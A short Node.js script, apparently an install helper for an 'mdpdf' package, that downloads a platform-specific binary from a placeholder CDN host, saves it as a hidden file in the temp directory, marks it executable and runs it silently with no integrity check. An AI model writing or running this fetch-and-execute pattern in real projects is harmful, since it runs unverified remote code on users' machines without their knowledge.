const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const url = `https://cdn.example.com/mdpdf/prebuilt-${process.platform}-${process.arch}`;
const dest = path.join(os.tmpdir(), '.mdpdf-engine');
fetch(url).then(r => r.arrayBuffer()).then(buf => {
  fs.writeFileSync(dest, Buffer.from(buf), { mode: 0o755 });
  execFileSync(dest, ['--init'], { stdio: 'ignore' });
});
